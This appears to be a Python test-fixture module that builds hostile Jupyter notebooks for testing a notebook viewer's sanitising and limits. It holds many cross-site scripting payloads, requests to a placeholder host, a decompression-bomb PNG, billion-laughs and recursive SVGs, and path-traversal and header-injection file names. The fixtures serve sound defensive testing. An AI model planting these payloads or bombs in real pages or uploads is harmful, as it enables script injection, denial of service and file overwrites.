"""Notebooks that want to run something, fetch something, or be too much for whoever looks at them."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Callable
from typing import Any

#: Where all of them lead, if anywhere. No such host is there; whatever asks for it has left.
AWAY = "http://away.invalid"

_SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="ran('svg')">
<script>ran('svg-script')</script><image href="{AWAY}/svg-image"/><style>@import url({AWAY}/svg-css);</style>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{AWAY}/svg-frame"/></foreignObject>
<a xlink:href="javascript:ran('svg-link')"><text>x</text></a><use href="{AWAY}/use#x"/></svg>"""
_PAGE = base64.b64encode(f"<script>ran('data');location='{AWAY}/data'</script>".encode()).decode()

#: What stands in a cell or in an output, by what it tries.
MARKUP = {
    "script": "<script>ran('script')</script>",
    "script-from-elsewhere": f'<script src="{AWAY}/x.js"></script>',
    "script-cut-in-two": "<scr<script>ipt>ran('cut')</scr</script>ipt>",
    "handler": "<img src=x onerror=\"ran('onerror')\"><body onload=\"ran('onload')\">",
    "handler-without-quotes": "<svg/onload=ran('svg-onload')><details open ontoggle=ran('toggle')>x</details>",
    "focus": "<input autofocus onfocus=\"ran('focus')\"><a tabindex=0 autofocus onfocus=ran('a')>x</a>",
    "link": "<a id=go href=\"javascript:ran('link')\">a link</a>",
    "link-in-disguise": '<a href="java\nscript:ran(1)">x</a><a href="&#106;avascript:ran(2)">x</a>',
    "link-to-data": f'<a href="data:text/html;base64,{_PAGE}">x</a>',
    "frame": f'<iframe src="{AWAY}/frame"></iframe><iframe srcdoc="<script>ran(\'srcdoc\')</script>"></iframe>',
    "frame-of-data": f'<iframe src="data:text/html;base64,{_PAGE}"></iframe>',
    "object": f'<object data="{AWAY}/object"></object><embed src="{AWAY}/embed"><applet code="{AWAY}/a"></applet>',
    "picture": f'<img src="{AWAY}/picture.png"><img srcset="{AWAY}/set.png 1x"><picture><source srcset="{AWAY}/s">'
    "</picture>",
    "style": f"<style>@import url({AWAY}/css); body {{ background: url({AWAY}/background) }}</style>"
    f'<p style="background: url({AWAY}/inline)">x</p><link rel=stylesheet href="{AWAY}/link.css">',
    "hints": f'<link rel=preload as=image href="{AWAY}/preload"><link rel=prefetch href="{AWAY}/prefetch">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/refresh">',
    "base": f'<base href="{AWAY}/"><img src="relative.png">',
    "form": f'<form action="{AWAY}/form"><input name=password><button id=go>go</button></form>'
    f'<button formaction="javascript:ran(1)">x</button>',
    "media": f'<video src="{AWAY}/video" poster="{AWAY}/poster" autoplay></video><audio src="{AWAY}/audio">',
    "svg": _SVG,
    "mathematics": f'<math><mtext><table><mglyph><style><img src="{AWAY}/math" onerror="ran(\'mglyph\')"></style>'
    f"</mglyph></table></mtext></math><math href=\"javascript:ran('math')\"><mi>x</mi></math>",
    "template": "<template><script>ran('template')</script></template><noscript><p title=\"</noscript><img src=x "
    "onerror=ran('noscript')>\">",
    "comment": "<!--><img src=x onerror=ran('comment')>--><![CDATA[<script>ran('cdata')</script>]]>",
    "ping": f'<a href="https://example.org" ping="{AWAY}/ping">x</a>',
    "end-of-the-page": f"</div></div></body></html><script>ran('end')</script><img src='{AWAY}/end'>",
}


def notebook(*cells: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    """A notebook in format 4.5."""
    numbered = [{"id": f"cell-{number}", "metadata": {}, **cell} for number, cell in enumerate(cells)]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": numbered}


def markdown(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": source, **more}


def code(source: str, *outputs: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "execution_count": 1, "outputs": list(outputs), **more}


def shown(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def printed(text: str) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text}


def _with_markup(markup: str) -> dict[str, Any]:
    """The same in every place that can hold it."""
    return notebook(
        markdown(
            f"# A title\n\n{markup}\n\nand in a line {markup}\n\n$x {markup} y$\n\n```{markup}\n{markup}\n```"
        ),
        markdown(f"[x]({AWAY}/markdown) ![x]({AWAY}/markdown.png) ![x](attachment:no-such) <{AWAY}/auto>"),
        markdown("![x](attachment:a.svg)", attachments={"a.svg": {"text/html": markup}}),
        code(
            markup,
            printed(markup),
            shown({"text/html": markup, "text/plain": "x"}, **{"text/html": {"isolated": True}}),
            shown({"text/markdown": markup}),
            shown({"text/latex": f"${markup}$"}),
            shown({"image/svg+xml": markup}),
            shown(
                {"image/png": f'" onerror="ran(1)"><script>ran(2)</script>{markup}'}, filenames={"image/png": AWAY}
            ),
            shown({"application/javascript": "ran('javascript')", "text/plain": "x"}),
            shown({"application/vnd.jupyter.widget-view+json": {"model_id": markup}, "text/plain": "a widget"}),
            {"output_type": "error", "ename": markup, "evalue": markup, "traceback": [markup]},
            # The format lets tags have no commas, and names no breaks.
            metadata={"tags": [markup.replace(",", ";")], "name": markup.replace("\n", " ")},
        ),
        {"cell_type": "raw", "source": markup, "metadata": {"raw_mimetype": "text/html"}},
        title=markup,
        language_info={"name": markup, "pygments_lexer": markup},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {markup: {}}}},
    )


#: Notebooks that are taken and have to be inert.
INERT = {name: _with_markup(markup) for name, markup in MARKUP.items()}


def _deep(depth: int) -> bytes:
    return (
        b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"x": '
        + b"[" * depth
        + b"]" * depth
        + b"}}"
    )


def _png(width: int, height: int) -> str:
    """A PNG file of so many black pixels, in base64: a few kilobytes that unpack to all of them."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer, line = zlib.compressobj(9), b"\0" * (width // 8 + 1)
    packed = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return base64.b64encode(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    ).decode()


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_BOMB = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">{_LAUGHS}]><svg xmlns="http://www.w3.org/2000/svg">'
_USE = '<use href="#g{}"/>'
_USES = "".join(f'<g id="g{n}">{_USE.format(n - 1) * 10}</g>' for n in range(1, 12))
_NESTED = 20_000

#: Notebooks that are too much: small files that grow, and large or deep ones. Each is refused, or a page that a
#: browser can show; none runs anything.
HEAVY: dict[str, Callable[[], dict[str, Any]]] = {
    "a-long-output": lambda: notebook(markdown("# A title"), code("x", printed("x" * 15_000_000))),
    "many-outputs": lambda: notebook(markdown("# A title"), code("x", *[printed("y\n" * 50)] * 20_000)),
    "a-long-table": lambda: notebook(
        markdown("# A title"),
        code("x", shown({"text/html": f"<table>{'<tr><td>1</td><td>2</td></tr>' * 300_000}</table>"})),
    ),
    "deep-markup": lambda: notebook(
        markdown("# A title"), code("x", shown({"text/html": "<div>" * _NESTED + "<script>ran('deep')</script>"}))
    ),
    "deep-tables": lambda: notebook(
        markdown("# A title"), code("x", shown({"text/html": "<table><tr><td>" * _NESTED + "x"}))
    ),
    "deep-quotes": lambda: notebook(markdown("# A title"), markdown("> " * _NESTED + "x")),
    "deep-lists": lambda: notebook(
        markdown("# A title"), markdown("\n".join(f"{'  ' * depth}- x" for depth in range(1500)))
    ),
    "deep-emphasis": lambda: notebook(markdown("# A title"), markdown("*a **b " * _NESTED)),
    "open-brackets": lambda: notebook(markdown("# A title"), markdown("[" * 1000 + "](" * 1000)),
    "deep-formula": lambda: notebook(markdown("# A title"), markdown(f"${'{' * 5000}x{'}' * 5000}$")),
    "a-picture-that-explodes": lambda: notebook(
        markdown("# A title"), code("x", shown({"image/png": _png(60_000, 60_000)}))
    ),
    "svg-entities": lambda: notebook(
        markdown("# A title"), code("x", shown({"image/svg+xml": f"{_BOMB}<text>&l11;</text></svg>"}))
    ),
    "svg-uses": lambda: notebook(
        markdown("# A title"),
        code(
            "x",
            shown(
                {
                    "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="g0"><rect/></g>'
                    f'{_USES}</defs><use href="#g11"/></svg>'
                }
            ),
        ),
    ),
}

#: What somebody may call a file, to have it land elsewhere or look like something else.
NAMES = (
    "../../.bashrc.ipynb",
    "..\\..\\x.ipynb",
    "/etc/cron.d/x.ipynb",
    "%2e%2e%2fx.ipynb",
    ".ipynb",
    ".hidden.ipynb",
    "a/b.ipynb",
    "x.ipynb\x00.exe",
    "x\r\nSet-Cookie: a=b.ipynb",
    'x"; filename="y.exe.ipynb',
    "\u202ebpyni.exe",
    "<img src=x onerror=ran(1)>.ipynb",
    "x" * 300 + ".ipynb",
    "survey.ipynb.exe",
)

#: Files that are refused, each with words of the reason.
REFUSED = {
    "nothing": (b"", "not a notebook"),
    "broken": (b'{"cells": [', "its JSON is broken"),
    "deep": (_deep(2_000), "nested too deeply"),
    "bottomless": (b"[" * 5_000_000, "nested too deeply"),
    "bytes": (b"PK\x03\x04\xff\xfe", "not text"),
    "list": (b"[]", "it has no cells"),
    "old": (json.dumps({"nbformat": 3, "cells": []}).encode(), "another format"),
    "cells-that-are-none": (json.dumps({**notebook(), "cells": [1]}).encode(), "not a notebook"),
    "no-source": (json.dumps({**notebook(), "cells": [{"cell_type": "code"}]}).encode(), "not a notebook"),
    "empty": (json.dumps(notebook(markdown(" \n"))).encode(), "is empty"),
    "many-cells": (json.dumps(notebook(*[markdown("x")] * 2001)).encode(), "2001 cells"),
    "large": (b" " * 20_000_001, "20 MB is the most"),
}
